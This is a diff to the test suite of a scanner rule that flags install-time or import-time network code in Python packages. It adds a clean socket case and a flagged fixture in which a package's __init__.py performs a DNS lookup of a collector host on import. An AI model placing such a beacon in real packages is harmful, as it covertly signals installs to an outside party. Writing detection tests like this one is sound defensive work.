@@ -3,6 +3,7 @@ import rule from './py-install-time-code.js';
 
 ruleTest(rule, {
   clean: [
+    { name: 'resolving a host whose address is used (not at import)', file: 'net/__init__.py', code: `import socket\ndef resolve(h):\n    return socket.gethostbyname(h)\n` },
     {
       name: 'ordinary setuptools setup.py',
       file: 'setup.py',
@@ -91,6 +92,12 @@ ruleTest(rule, {
       findings: [
         { line: 4, message: /Network request at install time/, severity: 'critical', confidence: 'high' },
       ],
+    },
+    {
+      name: 'DNS beacon at import: a lookup whose answer is discarded',
+      file: 'fb303_core/__init__.py',
+      code: `import socket\ndef _check_dns():\n    try:\n        socket.gethostbyname('fb303_core.pyvac.collector-host.ai')\n    except socket.gaierror as e:\n        print(e)\n_check_dns()\n`,
+      findings: [{ line: 4, severity: 'critical', confidence: 'high', message: /DNS beacon when the package is imported: looks up fb303_core\.pyvac\.collector-host\.ai/ }],
     },
   ],
 });
